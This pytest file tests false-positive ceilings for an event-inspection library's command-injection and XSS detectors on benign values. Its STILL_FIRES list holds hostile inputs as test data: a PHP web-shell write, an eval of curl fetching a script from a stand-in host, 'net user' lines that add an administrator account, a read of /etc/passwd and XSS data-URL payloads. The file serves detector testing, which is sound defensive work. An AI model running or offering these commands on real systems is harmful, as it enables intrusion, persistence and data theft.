"""False positives on the ordinary values real events carry, and the rule fixes they led to.

``tests/data/event_values_benign.jsonl`` (written by ``make_event_values_benign.py``, seeded) holds
values by category: HTTP headers of browsers, bots and SDKs, cookies, tokens, signed and OAuth
URLs, ids, IBANs, phones, addresses, emails, dates, versions, cron, file names, JSON/YAML/XML/CSV,
Markdown, HTML e-mail and rich-text markup, product names with SQL/shell/HTML words, support
messages, log lines and stack traces, math, multilingual text, search queries, GraphQL and prose
with command words. Each is scanned on its own and inside an event (an API Gateway body, header
and query, an SQS body, a DynamoDB string attribute).

Machine-written values (headers, URLs, ids, tokens, dates) must be quiet. The ceilings of the
others leave room for what the detectors' docstrings promise to catch and these values still
hold: ``<img>``/``<input>`` and ``<!-- -->`` in HTML (markup injection), namespaced and ``<link>``
elements in XML bodies, ``{{ user.name }}`` (a template expression), a ``file:///`` URL, a
localhost redirect URI, ``1 and 3 < 4``, ``net user NAME PASS`` as a whole value.
"""

from __future__ import annotations

import copy
import json
from collections import Counter
from pathlib import Path
from typing import Any

import pytest

from eventguard.runtime import inspect
from eventguard.runtime.detectors import detector, scan

ROOT = Path(__file__).resolve().parents[2]
DATA = ROOT / "data" / "event_values_benign.jsonl"
EVENTS = ROOT / "events"

QUIET = {  # machine-written values: no false positive at all
    "user_agent",
    "accept",
    "cookie",
    "authorization",
    "referer",
    "forwarded",
    "http_header",
    "signed_url",
    "ids_tokens",
    "iban_phone",
    "address",
    "email",
    "date_money_version_cron",
    "file_path_mime",
    "markdown",
    "multilingual",
    "graphql",
    "search_query",
}
CEILING = {"structured": 0.15, "html_rich_text": 0.25, "prose_code_words": 0.08}
DEFAULT_CEILING = 0.05
OVERALL_CEILING = 0.02  # share of all values any detector fires on
EVENT_CEILING = 0.02  # share of values that make their event carry a finding


def _rows() -> list[dict[str, str]]:
    with DATA.open(encoding="utf-8") as fh:
        return [json.loads(line) for line in fh if line.strip()]


ROWS = _rows()


def test_benign_set_covers_every_category() -> None:
    counts = Counter(row["category"] for row in ROWS)
    assert set(counts) >= QUIET | set(CEILING)
    assert all(row["class"] == "benign" for row in ROWS)


@pytest.mark.parametrize("category", sorted({row["category"] for row in ROWS}))
def test_category_false_positives_stay_under_its_ceiling(category: str) -> None:
    values = [row["payload"] for row in ROWS if row["category"] == category]
    noisy = [(v[:80], [(rule, m.detail) for rule, m in scan(v)]) for v in values if scan(v)]
    ceiling = 0.0 if category in QUIET else CEILING.get(category, DEFAULT_CEILING)
    assert len(noisy) / len(values) <= ceiling, noisy


def test_overall_false_positives_stay_under_the_ceiling() -> None:
    noisy = sum(1 for row in ROWS if scan(row["payload"]))
    assert noisy / len(ROWS) <= OVERALL_CEILING


def _load(path: str) -> Any:
    return json.loads((EVENTS / path).read_text())


_API = _load("api-rest/own--form-body.json")
_SQS = _load("sqs/" + sorted(p.name for p in (EVENTS / "sqs").glob("*.json"))[0])
_DDB = _load("dynamodb-stream/aws-lambda-go--dynamodb-event.json")


def _event(kind: int, value: str) -> Any:
    """``value`` in one of five places an event carries user data."""
    if kind < 3:
        event = copy.deepcopy(_API)
        if kind == 0:
            event["body"] = json.dumps({"comment": value})
            event["headers"]["Content-Type"] = "application/json"
            event["multiValueHeaders"]["Content-Type"] = ["application/json"]
        elif kind == 1:
            event["headers"]["X-Value"] = value
            event["multiValueHeaders"]["X-Value"] = [value]
        else:
            event["queryStringParameters"] = {"q": value}
            event["multiValueQueryStringParameters"] = {"q": [value]}
        return event
    if kind == 3:
        event = copy.deepcopy(_SQS)
        event["Records"] = [event["Records"][0]]
        event["Records"][0]["body"] = value
        return event
    event = copy.deepcopy(_DDB)
    event["Records"] = [event["Records"][0]]
    event["Records"][0]["dynamodb"]["NewImage"] = {"note": {"S": value}}
    return event


def test_values_inside_events_stay_under_the_ceiling() -> None:
    noisy = []
    for index, row in enumerate(ROWS):
        verdict = inspect(_event(index % 5, row["payload"]))
        if verdict.findings:
            noisy.append((row["payload"][:80], [(f.rule, f.path) for f in verdict.findings]))
    assert len(noisy) / len(ROWS) <= EVENT_CEILING, noisy


# Each fix: the ordinary value it silences, and the attack beside it that still fires.
QUIET_NOW = [
    # cmdi: a whole value starting with echo/eval/net/sleep needs that command's syntax
    ("cmdi", "Echo Dot (5th Gen) - Charcoal"),
    ("cmdi", 'echo dot "5th gen" price'),
    ("cmdi", "echo chamber effect"),
    ("cmdi", "Eval board for STM32 (Nucleo-64)"),
    ("cmdi", "Net user manual and setup guide"),
    ("cmdi", "sleep 8 hours"),
    # cmdi: ";base64," is a data URL's parameter, not a command after a separator
    ("cmdi", '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB" alt="x">'),
    ("cmdi", "data:application/pdf;base64,JVBERi0xLjQK"),
    # xss: a raster image's data URL in src/href/background runs nothing
    ("xss", '<a href="data:image/png;base64,iVBORw0KGgo=" download="p.png">p.png</a>'),
    ("xss", '<td background="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP" bgcolor="#fff">x</td>'),
    ("xss", '<div style="data:image/jpeg;base64,/9j/4AAQ">x</div>'),
]
STILL_FIRES = [
    ("cmdi", "echo \"<?php system($_GET['cmd']); ?>\" > cmd.php"),
    ("cmdi", "echo $PATH"),
    ("cmdi", "echo `id`"),
    ("cmdi", 'echo -e "\\x41"'),
    ("cmdi", 'eval "$(curl -s http://x.example/a.sh)"'),
    ("cmdi", "net user hacker Password1 /ADD"),
    ("cmdi", "net localgroup Administrators hacker /ADD"),
    ("cmdi", "net view"),
    ("cmdi", "net user bob s3cret"),
    ("cmdi", "net use \\\\10.0.0.5\\c$"),
    ("cmdi", "sleep 5"),
    ("cmdi", "sleep 10;"),
    ("cmdi", "; echo hello"),
    ("cmdi", ";base64 -d /tmp/x"),
    ("cmdi", "|base64 /etc/passwd"),
    ("cmdi", "a;whoami"),
    ("xss", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    ("xss", '<a href="data:image/svg+xml;base64,PHN2Zz4=">x</a>'),
    ("xss", '<a href="data:application/x-x509-user-cert;base64,PHNj">x</a>'),
    ("xss", "<a href=data:,alert(1)>x</a>"),
    ("xss", '<td background="data:image/png, <script>alert(1)</script>">'),
]


@pytest.mark.parametrize(("rule", "text"), QUIET_NOW)
def test_ordinary_value_is_quiet(rule: str, text: str) -> None:
    assert detector(rule).detect(text) is None


@pytest.mark.parametrize(("rule", "text"), STILL_FIRES)
def test_attack_beside_it_still_fires(rule: str, text: str) -> None:
    assert detector(rule).detect(text) is not None
    assert rule in {r for r, _ in scan(text)}
